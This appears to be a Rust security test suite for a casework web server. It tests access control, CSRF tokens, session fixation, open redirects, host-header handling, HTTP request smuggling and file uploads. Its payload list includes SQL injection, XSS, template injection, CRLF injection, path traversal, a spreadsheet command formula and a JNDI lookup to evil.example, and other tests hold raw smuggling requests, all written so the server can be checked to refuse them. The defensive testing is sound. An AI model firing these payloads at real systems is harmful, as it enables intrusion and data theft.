//! Attacks on a running server, on both databases: other people's things by every operation and page, forged forms,
//! hostile fields, hosts, heads and files. Operations and routes are read off the contract, so that a new one is
//! attacked as well, or fails for want of a case.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use minshu_kernel::capability::Contract;
use minshu_kernel::web::Method;
use minshu_runtime::house::describe;
use minshu_runtime::http::openapi::{document, path};
use minshu_server::capabilities;
use serde_json::{Map, json};

use crate::running::{Answer, Json, Server, Start, act, databases, draft, request};

/// What the victim wrote, and nobody else may read.
const MARK: &str = "只给自己看的一句话";
/// The victim's telephone, and a county's post that is not the case's.
const VICTIM: &str = "13900000001";

struct Scene {
    server: Server,
    victim: String,
    /// A resident, and a clerk of the same county without a part in cases.
    strangers: Vec<String>,
    case: String,
    draft: String,
}

fn scene(start: &Start) -> Scene {
    let server = start.go();
    let victim = server.person(1, &[]);
    let strangers = vec![server.person(2, &[]), server.person(3, &["platform.registrar"])];
    let first = server.done(&victim, "casework.save_draft", draft(MARK));
    let case = server.done(&victim, "casework.submit", json!({ "draft": first["draft"] }));
    let second = server.done(&victim, "casework.save_draft", draft(MARK));
    Scene {
        case: case["case"].as_str().unwrap().to_owned(),
        draft: second["draft"].as_str().unwrap().to_owned(),
        server,
        victim,
        strangers,
    }
}

fn scenes() -> Vec<(Scene, tempfile::TempDir, Option<minshu_storage::records::testing::TestDb>)> {
    let each = databases().into_iter().map(|(url, db)| {
        let folder = tempfile::tempdir().unwrap();
        let start = Start { database_url: url, ..Start::on(&folder.path().join("data")) };
        (scene(&start), folder, db)
    });
    each.collect()
}

fn contract() -> Contract {
    describe(&capabilities())
}

/// An operation of the API with an input that its document gives.
struct Operation {
    name: String,
    path: String,
    get: bool,
    input: Map<String, Json>,
}

fn operations() -> Vec<Operation> {
    let contract = contract();
    let document = document(&contract);
    let actions = contract.actions.iter().map(|action| (action.name, false));
    let queries = contract.queries.iter().map(|query| (query.name, !query.personal));
    let all = actions.chain(queries).map(|(name, get)| {
        let path = path(name);
        let described = &document["paths"][&path][if get { "get" } else { "post" }];
        assert!(described.is_object(), "{name} is not in the document");
        let mut input = Map::new();
        if get {
            for parameter in described["parameters"].as_array().into_iter().flatten() {
                if parameter["in"] == "query" {
                    let example = parameter.get("example").cloned().unwrap_or(Json::Null);
                    input.insert(parameter["name"].as_str().unwrap().to_owned(), example);
                }
            }
        } else {
            let body = &described["requestBody"]["content"]["application/json"];
            input = body["example"].as_object().cloned().unwrap_or_default();
            let properties = body["schema"]["properties"].as_object();
            for name in properties.into_iter().flat_map(Map::keys) {
                input.entry(name).or_insert(Json::Null);
            }
        }
        Operation { name: name.to_owned(), path, get, input }
    });
    all.collect()
}

/// Sends an operation; members that are nothing are left out.
fn send(server: &Server, token: &str, operation: &Operation, input: &Map<String, Json>) -> Answer {
    let given = input.iter().filter(|(_, value)| !value.is_null());
    if operation.get {
        let text = |value: &Json| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        let pairs: Vec<String> =
            given.map(|(name, value)| format!("{name}={}", encoded(&text(value)))).collect();
        let path = format!("{}?{}", operation.path, pairs.join("&"));
        return request(&server.address, token, "GET", &path, &[], "").unwrap();
    }
    let input: Map<String, Json> = given.map(|(n, v)| (n.clone(), v.clone())).collect();
    let kind = [("content-type", "application/json")];
    let body = Json::Object(input).to_string();
    request(&server.address, token, "POST", &operation.path, &kind, &body).unwrap()
}

fn encoded(text: &str) -> String {
    minshu_kernel::web::percent(text).into_owned()
}

/// What members that name things are, where the victim has such a thing; `None` where a member names nothing of
/// anybody. An id that is not told apart here is attacked with the case's.
fn of_the_victim(scene: &Scene, name: &str, example: &Json) -> Option<Json> {
    match name {
        "case" => Some(json!(scene.case)),
        "draft" => Some(json!(scene.draft)),
        "phone" => Some(json!(VICTIM)),
        "token" => Some(json!(scene.victim)),
        "version" | "base_version" => Some(json!(1)),
        _ => example.as_str().filter(|text| is_an_id(text)).map(|_| json!(scene.case)),
    }
}

fn is_an_id(text: &str) -> bool {
    text.len() == 36 && text.bytes().filter(|byte| *byte == b'-').count() == 4
}

#[test]
fn no_operation_gives_or_changes_what_belongs_to_somebody_else() {
    for (scene, _folder, _db) in scenes() {
        let before = send_case(&scene);
        for operation in operations() {
            // The registrar may look up an account at the counter and end nothing of it but by its own operations;
            // what registers or signs in is told nothing either way.
            for (number, stranger) in scene.strangers.iter().chain([&String::new()]).enumerate() {
                let mut input = operation.input.clone();
                for (name, value) in &mut input {
                    if let Some(other) = of_the_victim(&scene, name, value) {
                        *value = other;
                    }
                }
                let counter = number == 1 && operation.name.starts_with("identity.");
                if counter {
                    continue;
                }
                let answer = send(&scene.server, stranger, &operation, &input);
                let told = format!("{} as stranger {number}: {answer:?}", operation.name);
                assert!(answer.status < 500, "{told}");
                assert!(!answer.body.contains(MARK), "{told}");
                let names_a_thing = input
                    .keys()
                    .any(|name| ["case", "draft", "file", "message"].contains(&&**name));
                let open = ["casework.save_draft", "messaging.send"].contains(&&*operation.name);
                if names_a_thing && !open {
                    assert!(answer.status >= 400, "{told}");
                    assert!(!answer.body.contains("试验员"), "{told}");
                }
            }
        }
        assert_eq!(send_case(&scene), before, "the case is as it was");
        let kept =
            scene.server.ask(&scene.victim, &format!("casework/draft?draft={}", scene.draft));
        assert_eq!(kept["form"]["request"]["reason"], MARK, "{kept}");
    }
}

fn send_case(scene: &Scene) -> Json {
    scene.server.ask(&scene.victim, &format!("casework/case?case={}", scene.case))
}

/// An address of a route, with the victim's things in it.
fn address(scene: &Scene, route: &str) -> String {
    let case = scene.case.as_str();
    let parts = route.split('/').map(|part| match part {
        "{draft}" => scene.draft.as_str(),
        "{item}" => "load-test.request",
        part if part.starts_with('{') => case,
        part => part,
    });
    parts.collect::<Vec<_>>().join("/")
}

#[test]
fn no_page_shows_strangers_what_belongs_to_somebody_else() {
    for (scene, _folder, _db) in scenes() {
        let contract = contract();
        let gets = contract.routes.iter().filter(|route| matches!(route.method, Method::Get));
        for route in gets {
            let path = address(&scene, route.path);
            for stranger in scene.strangers.iter().chain([&String::new()]) {
                let answer =
                    request(&scene.server.address, stranger, "GET", &path, &[], "").unwrap();
                assert!(answer.status < 500, "{path}: {answer:?}");
                assert!(!answer.body.contains(MARK), "{path} shows it");
                assert!(!answer.body.contains(VICTIM), "{path} shows a telephone");
                guarded(&path, &answer);
            }
        }
    }
}

/// What every answer carries.
fn guarded(place: &str, answer: &Answer) {
    let header = |name: &str| answer.headers.get(name).map_or("", String::as_str);
    let policy = header("content-security-policy");
    assert!(policy.contains("default-src"), "{place}: {policy}");
    assert_eq!(header("x-content-type-options"), "nosniff", "{place}");
    assert_eq!(header("x-frame-options"), "DENY", "{place}");
    assert_eq!(header("cache-control"), "no-store", "{place}");
    assert_eq!(header("referrer-policy"), "same-origin", "{place}");
    for cookie in answer.headers.get("set-cookie").into_iter() {
        assert!(
            cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"),
            "{place}: {cookie}"
        );
    }
}

/// The form's token of a browser, as its pages carry it.
fn form_token(server: &Server, cookies: &str) -> String {
    let page = request(&server.address, "", "GET", "/", &[("cookie", cookies)], "").unwrap();
    let token = page.body.split("name=\"csrf-token\" content=\"").nth(1).unwrap();
    token.split('"').next().unwrap().to_owned()
}

#[test]
fn no_form_is_taken_without_its_own_token() {
    let folder = tempfile::tempdir().unwrap();
    let scene = scene(&Start::on(&folder.path().join("data")));
    let cookies = |token: &str, visitor: &str| {
        format!("minshu_session={token}; minshu_visitor={}", visitor.repeat(32))
    };
    let own = cookies(&scene.victim, "a");
    let elsewhere = form_token(&scene.server, &cookies(&scene.strangers[0], "a"));
    let visitors = form_token(&scene.server, &cookies(&scene.victim, "b"));
    let contract = contract();
    // No cookie says who calls an endpoint of a public standard, so nobody's browser can be made to call it.
    let posts = contract
        .routes
        .iter()
        .filter(|route| matches!(route.method, Method::Post) && !route.endpoint);
    let mut addresses: Vec<String> = posts.map(|route| address(&scene, route.path)).collect();
    addresses.extend(operations().into_iter().filter(|o| !o.get).map(|operation| operation.path));
    addresses.push("/api/uploads".to_owned());
    assert!(addresses.len() > 50);
    for path in addresses {
        let is_api = path.starts_with("/api/");
        for token in ["", "0", &"0".repeat(32), &elsewhere, &visitors] {
            let kind =
                if is_api { "application/json" } else { "application/x-www-form-urlencoded" };
            let body = if is_api { "{}".to_owned() } else { format!("_csrf={token}&reason=x") };
            let mut headers = vec![("cookie", own.as_str()), ("content-type", kind)];
            headers.extend([("origin", "https://evil.example"), ("sec-fetch-site", "cross-site")]);
            if !token.is_empty() {
                headers.push(("x-csrf-token", token));
            }
            let answer =
                request(&scene.server.address, "", "POST", &path, &headers, &body).unwrap();
            assert_eq!(answer.status, 403, "{path} with {token:?}: {answer:?}");
        }
        // A method that hides in a field or a header is no method.
        let headers = [("cookie", own.as_str()), ("x-http-method-override", "POST")];
        let answer = request(&scene.server.address, "", "GET", &path, &headers, "").unwrap();
        assert!([200, 303, 400, 403, 404, 405].contains(&answer.status), "{path}: {answer:?}");
    }
    assert_eq!(scene.server.verbs(&scene.victim, &scene.case), ["submit"]);
}

/// Texts that mean something to some interpreter.
fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "'; DROP TABLE cases; --",
        "1 OR 1=1",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}{%25 raw %25}${7*7}<%= 7 %>",
        "a\r\nSet-Cookie: minshu_session=evil",
        "../../../../etc/passwd",
        "=cmd|' /C calc'!A0",
        "${jndi:ldap://evil.example/a}",
        "a\u{0}b",
        "\u{202e}fdp.exe",
        "%s%n%x",
        "\u{feff}\u{200b}",
        "javascript:alert(1)",
    ]
    .map(str::to_owned)
    .to_vec();
    all.push("长".repeat(9_000));
    all
}

/// Whether a page holds markup that came with an input.
fn escaped(page: &str) -> bool {
    !page.contains("<script>alert") && !page.contains("<img src=x")
}

#[test]
fn hostile_texts_in_every_field_break_nothing_and_mean_nothing() {
    for (scene, _folder, _db) in scenes() {
        let clerk = scene.server.person(4, &["platform.operator", "platform.registrar"]);
        for operation in operations() {
            // Passwords are hashed at cost; a wrong one is a wrong one.
            let costly = ["identity.sign_in", "identity.change_password", "identity.register"];
            let all = payloads();
            let few = if costly.contains(&&*operation.name) { &all[..2] } else { &all };
            for payload in few {
                for field in operation.input.keys() {
                    let mut input = operation.input.clone();
                    input.insert(field.clone(), json!(payload));
                    let answer = send(&scene.server, &clerk, &operation, &input);
                    let place = format!("{} /{field} {payload:.40?}", operation.name);
                    assert!(answer.status < 500, "{place}: {answer:?}");
                    // An address that is too long is refused before there is a request of ours.
                    if ![414, 431].contains(&answer.status) {
                        guarded(&place, &answer);
                    }
                    assert!(!answer.headers.values().any(|v| v.contains("evil")), "{place}");
                }
            }
            let deep = "[".repeat(100_000);
            if !operation.get {
                let kind = [("content-type", "application/json")];
                let address = &scene.server.address;
                let answer = request(address, &clerk, "POST", &operation.path, &kind, &deep);
                assert_eq!(answer.unwrap().status, 400, "{}", operation.name);
            }
        }
        for payload in payloads() {
            let payload = encoded(&payload);
            for page in ["/search?q=", "/systems?q=", "/items?q=", "/sign-in?to=", "/chapters/"] {
                let path = format!("{page}{payload}");
                let answer = request(&scene.server.address, &clerk, "GET", &path, &[], "").unwrap();
                assert!(answer.status < 500 && escaped(&answer.body), "{path}: {answer:?}");
            }
        }
        // A draft keeps what was typed, and its pages show it as text.
        for payload in payloads().iter().filter(|p| p.len() < 200 && !p.contains('\0')) {
            let saved = act(
                &scene.server.address,
                &scene.victim,
                "casework.save_draft",
                &draft(payload),
                None,
            );
            let saved = saved.unwrap();
            if saved.status != 200 {
                assert_eq!(saved.status, 422, "{payload:?}: {saved:?}");
                continue;
            }
            let id = saved.json()["draft"].as_str().unwrap().to_owned();
            let path = format!("/drafts/{id}");
            let page =
                request(&scene.server.address, &scene.victim, "GET", &path, &[], "").unwrap();
            assert!(page.status == 200 && escaped(&page.body), "{payload:?}");
        }
    }
}

#[test]
fn no_return_address_leads_away() {
    let folder = tempfile::tempdir().unwrap();
    let server = Start::on(&folder.path().join("data")).go();
    for bad in [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "javascript:alert(1)",
        "/a\r\nLocation: //evil.example",
        "%2f%2fevil.example",
        "http:evil.example",
    ] {
        let path = format!("/preferences/language/en?back={}", encoded(bad));
        let answer = request(&server.address, "", "GET", &path, &[], "").unwrap();
        let to = &answer.headers["location"];
        assert!(
            to.starts_with('/') && !to.starts_with("//") && !to.contains('\\'),
            "{bad:?}: {to}"
        );
        let path = format!("/sign-in?to={}", encoded(bad));
        let page = request(&server.address, "", "GET", &path, &[], "").unwrap();
        assert!(!page.body.contains("href=\"//evil") && !page.body.contains("href=\"https://evil"));
        assert!(
            !page.body.contains("javascript:alert(1)\"")
                || page.body.contains("value=\"javascript")
        );
    }
}

#[test]
fn hosts_and_forwarding_heads_say_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let server = Start::on(&folder.path().join("data")).go();
    for name in [
        "x-forwarded-host",
        "x-forwarded-proto",
        "forwarded",
        "x-original-url",
        "x-rewrite-url",
        "x-host",
    ] {
        for path in ["/", "/home", "/sign-in", "/api/openapi.json", "/preferences/theme/dark"] {
            let headers = [(name, "evil.example")];
            let answer = request(&server.address, "", "GET", path, &headers, "").unwrap();
            let told = format!("{:?}{}", answer.headers, answer.body);
            assert!(!told.contains("evil.example"), "{name} {path}");
        }
    }
    let answers = raw(&server, "GET / HTTP/1.1\r\nhost: evil.example\r\nconnection: close\r\n\r\n");
    assert!(answers.starts_with("HTTP/1.1 200") && !answers.contains("evil.example"));
    let absolute =
        "GET http://evil.example/home HTTP/1.1\r\nhost: evil.example\r\nconnection: close\r\n\r\n";
    assert!(!raw(&server, absolute).contains("evil.example"));
}

/// Sends bytes as they are; everything that comes back until the server closes or is silent.
fn raw(server: &Server, bytes: &str) -> String {
    let mut stream = TcpStream::connect(&server.address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    stream.write_all(bytes.as_bytes()).unwrap();
    let mut answer = Vec::new();
    let mut piece = [0; 4096];
    while let Ok(count @ 1..) = stream.read(&mut piece) {
        answer.extend_from_slice(&piece[..count]);
    }
    String::from_utf8_lossy(&answer).into_owned()
}

#[test]
fn no_two_readings_of_where_a_request_ends() {
    let folder = tempfile::tempdir().unwrap();
    let server = Start::on(&folder.path().join("data")).go();
    let hidden = "GET /api/platform/build HTTP/1.1\r\nhost: a\r\n\r\n";
    let head =
        "POST /sign-in HTTP/1.1\r\nhost: a\r\ncontent-type: application/x-www-form-urlencoded\r\n";
    let shapes = [
        format!("{head}content-length: 5\r\ncontent-length: 0\r\n\r\n{hidden}"),
        format!("{head}content-length: 0, 5\r\n\r\n{hidden}"),
        format!("{head}content-length: +5\r\n\r\nabcde{hidden}"),
        format!("{head}content-length : 5\r\n\r\nabcde{hidden}"),
        format!("{head}transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n{hidden}"),
        format!("{head}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}"),
        format!("{head}x-a: b\r\n  content-length: 5\r\nno colon\r\n\r\n{hidden}"),
        format!("{head}transfer-encoding: chunked\r\n\r\n-1\r\n\r\n{hidden}"),
        format!("{head}transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n\r\n{hidden}"),
        "GET / HTTP/1.1\r\n\r\n".to_owned().replace("GET", "G\0T"),
    ];
    for shape in shapes {
        let answer = raw(&server, &shape);
        assert!(!answer.contains("\"build\""), "{shape:?} hid a request: {answer}");
        assert!(!answer.starts_with("HTTP/1.1 200"), "{shape:?}: {answer}");
    }
    // Both lengths: the chunks count (RFC 9112, 6.3), and the connection does not go on after it.
    let both =
        format!("{head}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{hidden}");
    let answer = raw(&server, &both);
    assert!(answer.matches("HTTP/1.1 ").count() <= 2, "{answer}");
    assert_eq!(request(&server.address, "", "GET", "/", &[], "").unwrap().status, 200);
    let trace = request(&server.address, "", "TRACE", "/", &[("x-secret", "s3cret")], "").unwrap();
    assert!(trace.status == 405 && !trace.body.contains("s3cret"), "{trace:?}");
}

#[test]
fn guessing_tells_nothing_of_accounts_and_cases() {
    let folder = tempfile::tempdir().unwrap();
    let scene = scene(&Start::on(&folder.path().join("data")));
    let server = &scene.server;
    let enter = |phone: &str| {
        let input = json!({ "phone": phone, "password": "not the password of anybody" });
        let answer = act(&server.address, "", "identity.sign_in", &input, None).unwrap();
        let mut told = answer.json();
        told.as_object_mut().unwrap().retain(|name, _| name != "request" && name != "instance");
        (answer.status, told)
    };
    for _ in 0..6 {
        assert_eq!(
            enter(VICTIM),
            enter("13911112222"),
            "a number without an account waits as long"
        );
    }
    let nowhere = "01928f5e-7b1a-7c3d-8e4f-0123456789ab";
    let asked = |case: &str| {
        let path = format!("/api/casework/case?case={case}");
        let answer = request(&server.address, &scene.strangers[0], "GET", &path, &[], "").unwrap();
        (answer.status, answer.json()["type"].clone(), answer.json()["detail"].clone())
    };
    assert_eq!(asked(&scene.case), asked(nowhere), "another's case is as one that is not there");
}

#[test]
fn a_key_belongs_to_whoever_sent_it() {
    for (scene, _folder, _db) in scenes() {
        let input = draft(MARK);
        let address = &scene.server.address;
        let send = |token: &str, key: &str| {
            act(address, token, "casework.save_draft", &input, Some(key)).unwrap()
        };
        let own = send(&scene.victim, "the-same-key").json();
        let other = send(&scene.strangers[0], "the-same-key").json();
        assert_ne!(own["draft"], other["draft"], "a kept reply went to somebody else");
        for key in ["", "a b", "\u{1}", "密钥", &"k".repeat(201)] {
            let status = send(&scene.victim, key).status;
            assert!((400..500).contains(&status), "{key:?}: {status}");
        }
    }
}

#[test]
fn a_session_is_made_by_the_server_and_ends_with_it() {
    let folder = tempfile::tempdir().unwrap();
    let scene = scene(&Start::on(&folder.path().join("data")));
    let server = &scene.server;
    // A token that somebody chose opens nothing and is not taken up.
    let chosen =
        "minshu_session=chosen-by-somebody; minshu_visitor=cccccccccccccccccccccccccccccccc";
    let page = request(&server.address, "", "GET", "/home", &[("cookie", chosen)], "").unwrap();
    assert_eq!(page.status, 303, "{page:?}");
    let token = form_token(server, chosen);
    let form = format!("_csrf={token}&phone={VICTIM}&password=a+password+of+tests");
    let headers = [("cookie", chosen), ("content-type", "application/x-www-form-urlencoded")];
    let entered = request(&server.address, "", "POST", "/sign-in", &headers, &form).unwrap();
    let set = &entered.headers["set-cookie"];
    assert!(entered.status == 303 && set.contains("minshu_session="), "{entered:?}");
    assert!(!set.contains("chosen-by-somebody"));
    let chosen_again =
        request(&server.address, "", "GET", "/home", &[("cookie", chosen)], "").unwrap();
    assert_eq!(chosen_again.status, 303, "the chosen token was not made good");
    // After signing out the token opens nothing.
    server.done(&scene.victim, "identity.sign_out", json!({ "token": scene.victim }));
    let answer =
        request(&server.address, &scene.victim, "GET", "/api/identity/me", &[], "").unwrap();
    assert_ne!(answer.status, 200, "{answer:?}");
}

/// One file as a form with files.
fn upload(server: &Server, token: &str, name: &str, kind: &str, content: &str) -> Answer {
    let body = format!(
        "--b\r\ncontent-disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         content-type: {kind}\r\n\r\n{content}\r\n--b--\r\n"
    );
    let headers = [("content-type", "multipart/form-data; boundary=b")];
    request(&server.address, token, "POST", "/api/uploads", &headers, &body).unwrap()
}

#[test]
fn files_are_what_they_hold_and_never_where_they_say() {
    let folder = tempfile::tempdir().unwrap();
    let scene = scene(&Start::on(&folder.path().join("data")));
    let (server, token) = (&scene.server, &scene.victim);
    let pdf = "%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF";
    let told = upload(server, token, "a.pdf.exe", "application/x-msdownload", pdf);
    assert_eq!((told.status, told.json()["kind"].clone()), (200, json!("application/pdf")));
    for (content, never) in [
        ("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "image/png"),
        ("<!DOCTYPE html><script>alert(1)</script>", "application/pdf"),
        ("GIF89a/*<script>*/=1;alert(1)//", "application/pdf"),
    ] {
        let answer = upload(server, token, "../../../../tmp/minshu-evil.png", "image/png", content);
        assert!(answer.status < 500, "{answer:?}");
        if answer.status == 200 {
            assert_ne!(answer.json()["kind"], never, "{answer:?}");
        }
    }
    assert!(!std::path::Path::new("/tmp/minshu-evil.png").exists());
    assert!((400..500).contains(&upload(server, token, "a.pdf", "application/pdf", "").status));
    let long = "长".repeat(5_000);
    assert!(upload(server, token, &long, "application/pdf", pdf).status < 500);
    assert_eq!(upload(server, "", "a.pdf", "application/pdf", pdf).status, 401);
}
